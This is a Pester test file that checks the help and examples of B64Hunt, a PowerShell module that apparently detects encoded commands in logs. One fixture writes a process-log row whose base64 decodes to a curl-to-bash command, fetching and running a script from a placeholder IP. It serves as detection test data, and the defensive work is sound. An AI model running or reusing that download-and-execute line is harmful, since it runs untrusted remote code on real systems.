# Offline help: every exported cmdlet and parameter is documented, and the examples are real.
#
# Which examples run: every example's code must parse. An example also RUNS, in a scratch folder, unless it
# needs what a test machine does not have: a workspace, Defender XDR or a cluster, or a person signing in (-WorkspaceId, -DefenderXdr, -Cluster, -AccessToken),
# an API key or a person typing one (-ApiKey, Read-Host), the network (git), a change to the session's
# environment ($env:), or the analyst's own system logs (a rooted path such as /var/log or ~/). Those are
# parse-only. The scratch folder holds stand-ins, built from the module's bundled sample, for the files the
# examples name (auoms.log, syslog, my-rules.yaml, SecurityAlert.csv, known-bad.csv, DeviceProcessEvents.csv,
# public_suffix_list.dat).
BeforeDiscovery {
    Import-Module $env:B64HUNT_MODULE -Force
    $script:ParseOnlyPattern = '-WorkspaceId|-DefenderXdr|-Cluster|-AccessToken|-ApiKey|Read-Host|\bgit\b|\$env:|(^|[\s,(''"])(/|~/)'
    $script:Cmdlets = foreach ($command in Get-Command -Module B64Hunt -CommandType Cmdlet | Sort-Object Name) {
        @{ Name = $command.Name }
    }
    $script:Examples = foreach ($command in Get-Command -Module B64Hunt -CommandType Cmdlet | Sort-Object Name) {
        $i = 0
        foreach ($example in (Get-Help $command.Name -Full).examples.example) {
            $i++
            $code = [string]$example.code
            @{ Name = $command.Name; Number = $i; Code = $code; Runs = $code -notmatch $ParseOnlyPattern }
        }
    }
}

BeforeAll {
    Import-Module $env:B64HUNT_MODULE -Force
    $script:Common = [System.Management.Automation.PSCmdlet]::CommonParameters + [System.Management.Automation.PSCmdlet]::OptionalCommonParameters
}

Describe 'Help for <Name>' -ForEach $Cmdlets {
    BeforeAll {
        $script:Help = Get-Help $Name -Full
        $script:Command = Get-Command $Name
    }
    It 'has a written synopsis, not the generated syntax stub' {
        $Help.Synopsis | Should -Not -BeNullOrEmpty
        $Help.Synopsis.Trim() | Should -Not -Match "^$([regex]::Escape($Name))(\s|$)"
        $Help.Synopsis | Should -Not -Match '\[-\w+\]|<\w+\[?\]?>' -Because 'a synopsis with parameter syntax is the stub Get-Help makes when help is missing'
        $Help.Synopsis | Should -Match '\w+ \w+ \w+' -Because 'a synopsis is a sentence'
    }
    It 'has a description' {
        ($Help.description.Text -join "`n").Trim().Length | Should -BeGreaterThan 80
    }
    It 'has at least two examples, each with code and an explanation' {
        @($Help.examples.example).Count | Should -BeGreaterOrEqual 2
        foreach ($example in $Help.examples.example) {
            ([string]$example.code).Trim() | Should -Not -BeNullOrEmpty
            (($example.remarks.Text -join ' ').Trim()) | Should -Not -BeNullOrEmpty -Because "example '$($example.title)' needs a sentence on what it does"
            ([string]$example.code) | Should -Match ([regex]::Escape($Name)) -Because "an example of $Name uses $Name"
        }
    }
    It 'describes every parameter' {
        $documented = @{}
        foreach ($p in $Help.parameters.parameter) { $documented[$p.name] = ($p.description.Text -join ' ').Trim() }
        foreach ($name in $Command.Parameters.Keys | Where-Object { $_ -notin $Common }) {
            $documented.ContainsKey($name) | Should -BeTrue -Because "-$name must appear in the help"
            $documented[$name] | Should -Not -BeNullOrEmpty -Because "-$name needs a description"
        }
    }
    It 'names its outputs, matching its [OutputType]' {
        $outputs = @($Help.returnValues.returnValue | ForEach-Object { ([string]$_.type.name).Trim() } | Where-Object { $_ })
        $outputs | Should -Not -BeNullOrEmpty
        foreach ($type in $Command.OutputType) { $outputs | Should -Contain $type.Name }
        foreach ($value in $Help.returnValues.returnValue) { ($value.description.Text -join ' ').Trim() | Should -Not -BeNullOrEmpty }
    }
    It 'names its inputs' {
        @($Help.inputTypes.inputType | ForEach-Object { ([string]$_.type.name).Trim() } | Where-Object { $_ }) | Should -Not -BeNullOrEmpty
    }
}

Describe 'Example <Number> of <Name>' -ForEach $Examples {
    It 'parses' {
        $tokens = $null; $errors = $null
        $null = [System.Management.Automation.Language.Parser]::ParseInput($Code, [ref]$tokens, [ref]$errors)
        $errors | Should -BeNullOrEmpty
    }
    It 'runs against the bundled sample' -Skip:(-not $Runs) {
        $data = Join-Path (Get-Module B64Hunt).ModuleBase 'data'
        $scratch = New-Item -ItemType Directory -Path (Join-Path $TestDrive "$Name-$Number")
        Copy-Item (Join-Path $data 'sample/auoms-syslog.log') (Join-Path $scratch 'auoms.log')
        Copy-Item (Join-Path $data 'sample/auoms-syslog.log') (Join-Path $scratch 'syslog')
        Copy-Item (Join-Path $data 'sample/alerts.csv') (Join-Path $scratch 'SecurityAlert.csv')
        Copy-Item (Join-Path $data 'sample/ti-feed.csv') (Join-Path $scratch 'known-bad.csv')
        Copy-Item (Join-Path $data 'iocs/public_suffix_list.dat') (Join-Path $scratch 'public_suffix_list.dat')
        @'
version: 1
rules:
  - id: deploy-tool
    category: Deployment
    techniques: [T1072]
    description: The in-house deployment tool.
    commands: [deployctl]
'@ | Set-Content (Join-Path $scratch 'my-rules.yaml')
        [pscustomobject]@{
            Timestamp = '2024-05-01T10:00:00Z'; DeviceName = 'web1'; AccountName = 'root'
            ProcessCommandLine = 'bash -c "echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IGJhc2g= | base64 -d | bash"'
        } | Export-Csv (Join-Path $scratch 'DeviceProcessEvents.csv')
        $before = @(Get-ChildItem $scratch).Count

        # No key, configuration or cache of the machine's user may reach the examples: with none, no request leaves.
        $home_ = New-Item -ItemType Directory -Path (Join-Path $TestDrive "$Name-$Number-home")
        $isolated = @{
            HOME = [string]$home_; XDG_CONFIG_HOME = $null; XDG_CACHE_HOME = $null; MSTICPYCONFIG = $null
            B64HUNT_CONFIG = (Join-Path $home_ 'no-config.yaml'); B64HUNT_CACHE = (Join-Path $home_ 'cache')
            B64HUNT_OTX_KEY = $null; B64HUNT_VT_KEY = $null; B64HUNT_XFORCE_ID = $null; B64HUNT_XFORCE_KEY = $null
        }
        $saved = @{}
        foreach ($name in $isolated.Keys) {
            $saved[$name] = [Environment]::GetEnvironmentVariable($name)
            [Environment]::SetEnvironmentVariable($name, $isolated[$name])
        }
        Push-Location $scratch
        try {
            $ErrorActionPreference = 'Continue'
            # Warnings (no TI provider configured) are expected here; errors are sorted below.
            $all = @(& ([scriptblock]::Create($Code)) 2>&1 3>$null)
        } finally {
            Pop-Location
            foreach ($name in $saved.Keys) { [Environment]::SetEnvironmentVariable($name, $saved[$name]) }
        }

        $errors = @($all | Where-Object { $_ -is [System.Management.Automation.ErrorRecord] })
        $output = @($all | Where-Object { $_ -isnot [System.Management.Automation.ErrorRecord] })
        # The sample holds deliberately bad lines, so B64Hunt's own per-item errors may appear; a misused
        # command (binding, validation, unknown command) may not.
        foreach ($e in $errors) {
            $e.Exception | Should -Not -BeOfType [System.Management.Automation.ParameterBindingException] -Because $e.ToString()
            $e.FullyQualifiedErrorId | Should -Match ',B64Hunt\.Commands\.' -Because $e.ToString()
        }
        ($output.Count -gt 0 -or @(Get-ChildItem $scratch).Count -gt $before) | Should -BeTrue -Because 'a working example gives output or writes a file'
    }
}

Describe 'about_B64Hunt' {
    It 'is found by Get-Help and covers the hunt, the scores and the configuration' {
        $text = Get-Help about_B64Hunt | Out-String
        $text | Should -Match 'about_B64Hunt'
        foreach ($heading in 'THE HUNT', 'THE SCORES', 'CONFIGURATION', 'AT THE PROMPT') { $text | Should -Match $heading }
        foreach ($command in (Get-Command -Module B64Hunt -CommandType Cmdlet).Name) {
            $text | Should -Match ([regex]::Escape($command))
        }
    }
    It 'is staged in en-US beside the compiled cmdlet help' {
        $enUS = Join-Path (Get-Module B64Hunt).ModuleBase 'en-US'
        Join-Path $enUS 'about_B64Hunt.help.txt' | Should -Exist
        Join-Path $enUS 'B64Hunt.Commands.dll-Help.xml' | Should -Exist
    }
}
